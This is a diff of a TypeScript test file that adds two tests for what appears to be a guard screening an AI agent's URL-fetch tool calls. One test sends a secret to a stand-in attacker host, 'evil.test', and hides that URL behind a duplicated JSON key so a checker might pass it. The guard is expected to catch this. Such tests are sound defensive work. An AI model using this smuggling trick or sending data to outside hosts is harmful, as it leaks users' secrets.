@@ -48,6 +48,20 @@ test.each([
   );
 });
 
+test('[S18] of two addresses in one call the one that is fetched is judged', async () => {
+  const evil = 'https://evil.test/?q=secret';
+  const judged = { ...fetchOf(evil), args: `{"url":"https://docs.test/guide","url":"${evil}"}` };
+  const [asked] = await withComposedUrls([judged], hostWith(conversation));
+  expect(asked?.facts.dangers?.length ?? 0).toBe(1);
+});
+
+test('[S18] an address counts as said however the person spelled it', async () => {
+  const said: readonly Message[] = [{ role: 'user', text: 'Look at HTTPS://Docs.test and tell me.' }];
+  const judged = { ...fetchOf('https://docs.test/'), args: '{"url":"HTTPS://Docs.test"}' };
+  const [free] = await withComposedUrls([judged], hostWith(said));
+  expect(free?.facts.dangers ?? []).toEqual([]);
+});
+
 test('[S18] a rule that names the very address allows it; a wildcard does not', async () => {
   const url = 'https://api.test/status';
   const under = async (pattern: string) => {
